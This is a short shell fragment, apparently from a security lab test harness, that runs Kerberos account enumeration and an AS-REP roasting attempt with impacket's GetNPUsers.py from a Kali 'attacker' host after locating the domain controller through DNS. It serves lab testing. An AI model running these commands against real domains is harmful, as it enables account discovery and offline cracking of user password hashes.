# Kerberos account enumeration (and AS-REP roasting attempt) with impacket GetNPUsers.py -usersfile
# from the attacker KALI, over TCP 88. data/users-getnpusers.txt: 4 real accounts, 14 unknown.
run() {
  # like the tools' own KDC discovery: locate the KDC through DNS first (this also names DC1)
  atk dig +short @"$DC_IP" "_kerberos._tcp.$DNSDOMAIN" SRV
  atk dig +short @"$DC_IP" "dc1.$DNSDOMAIN" A
  grep -v '^#' "$LAB_ROOT/test/lab/data/users-getnpusers.txt" >users-getnpusers.txt
  atk "$PY" "$IMPACKET_EX/GetNPUsers.py" "$REALM/" -usersfile users-getnpusers.txt \
    -dc-ip "$DC_IP" -no-pass -format hashcat || true   # exits non-zero when no hash was found
}
